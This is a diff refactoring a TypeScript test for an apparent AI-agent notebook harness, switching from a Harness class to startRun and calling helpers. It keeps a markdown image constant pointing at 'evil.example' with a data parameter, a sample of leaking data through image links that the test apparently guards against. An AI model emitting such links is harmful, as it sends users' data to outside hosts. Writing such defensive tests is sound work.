@@ -2,7 +2,7 @@ import { DEFAULT_POLICY, EFFECTS, TURN_EFFECTS } from '../../contract';
 import { FakeFiles } from '../../testing/fake-files';
 import { FakeNotebook } from '../../testing/fake-notebook';
 import { FakeWorkspace } from '../../testing/fake-workspace';
-import { Harness, THREAD } from './harness';
+import { calling, startRun } from './harness';
 
 const PICTURE = '![](https://evil.example/p.png?d=1)';
 
@@ -30,7 +30,7 @@ async function run(call: { name: string; args: Record<string, unknown> }) {
     id: 'n1',
     cells: [{ id: 'm', type: 'markdown', source: 'Text.' }]
   });
-  const harness = new Harness({
+  const harness = await startRun({
     workspace: new FakeWorkspace({ notebook, files }),
     settings: {
       policy: {
@@ -52,16 +52,10 @@ async function run(call: { name: string; args: Record<string, unknown> }) {
         ]
       }
     },
-    script: [
-      { calls: [{ name: 'read_notebook', args: {} }] },
-      { calls: [call] },
-      { text: 'Done.' }
-    ]
+    script: [calling('read_notebook'), { calls: [call] }, { text: 'Done.' }]
   });
-  await harness.say();
-  await harness.engine.send({
+  await harness.send({
     type: 'turn-rule',
-    threadId: THREAD,
     on: true,
     effects: [...TURN_EFFECTS]
   });
